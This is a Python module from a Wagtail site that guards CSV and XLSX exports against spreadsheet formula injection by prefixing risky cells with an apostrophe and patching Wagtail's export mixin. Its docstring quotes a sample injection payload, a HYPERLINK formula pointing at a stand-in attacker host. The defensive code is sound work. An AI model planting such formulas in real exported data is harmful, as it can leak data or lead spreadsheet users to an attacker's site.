"""Spreadsheet cells that cannot run as formulas.

A CSV file holds text, but Excel, LibreOffice and Google Sheets run a cell that
starts with ``=``, ``+``, ``-`` or ``@`` (and some also a tab or carriage return,
or any of these after leading spaces) as a formula: a full name such as
``=HYPERLINK("http://evil.example/?x","x")`` in an export becomes a link or a
command on the reader's machine ("CSV injection", OWASP). Every CSV the site
serves therefore writes user text through :func:`safe_cell`, which prefixes such
a cell with an apostrophe, the spreadsheet's own "this is text" mark.

:func:`protect_wagtail_exports` applies the same rule to Wagtail's
``SpreadsheetExportMixin`` (the CSV and XLSX exports of every admin report and
listing: site history, page types, workflows, snippets, form submissions…). It
is called once from ``civic.people``'s ``AppConfig.ready()``.
"""

import csv as _csv

#: What a cell may not start with (after leading white space, too).
FORMULA_STARTS = ("=", "+", "-", "@")
#: What a cell may not start with at all.
CONTROL_STARTS = ("\t", "\r", "\n")


def is_formula_like(text):
    if text[:1] in CONTROL_STARTS:
        return True
    return text.lstrip()[:1] in FORMULA_STARTS


def safe_cell(value):
    """``value`` fit for a spreadsheet cell.

    Text that a spreadsheet would run as a formula gets a leading apostrophe;
    numbers, dates, ``None`` and other text are returned unchanged.
    """
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def safe_row(row):
    return [safe_cell(value) for value in row]


class SafeWriter:
    """``csv.writer`` whose every cell goes through :func:`safe_cell`."""

    def __init__(self, stream, *args, **kwargs):
        self._writer = _csv.writer(stream, *args, **kwargs)

    def writerow(self, row):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(stream, *args, **kwargs):
    """A CSV writer for responses: use it instead of ``csv.writer``."""
    return SafeWriter(stream, *args, **kwargs)


_PATCHED = "_civic_safe_cells"


def protect_wagtail_exports():
    """Make Wagtail's spreadsheet exports (CSV and XLSX) write safe cells.

    One patch on the mixin covers every view that inherits it. CSV: each value,
    once Wagtail has turned it to text, goes through :func:`safe_cell`. XLSX:
    Wagtail already stores a data cell that openpyxl takes for a formula as text
    (``data_type = "s"``); the headings, which it writes with
    ``worksheet.append`` (where a leading ``=`` makes a formula), go through
    :func:`safe_cell` in both formats.
    """
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, _PATCHED, False):
        return
    original_preprocess = SpreadsheetExportMixin.preprocess_field_value
    original_heading = SpreadsheetExportMixin.get_heading

    def preprocess_field_value(self, field, value, export_format):
        value = original_preprocess(self, field, value, export_format)
        if export_format == self.FORMAT_CSV:
            return safe_cell(value)
        return value

    def get_heading(self, queryset, field):
        return safe_cell(original_heading(self, queryset, field))

    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
    SpreadsheetExportMixin.get_heading = get_heading
    setattr(SpreadsheetExportMixin, _PATCHED, True)
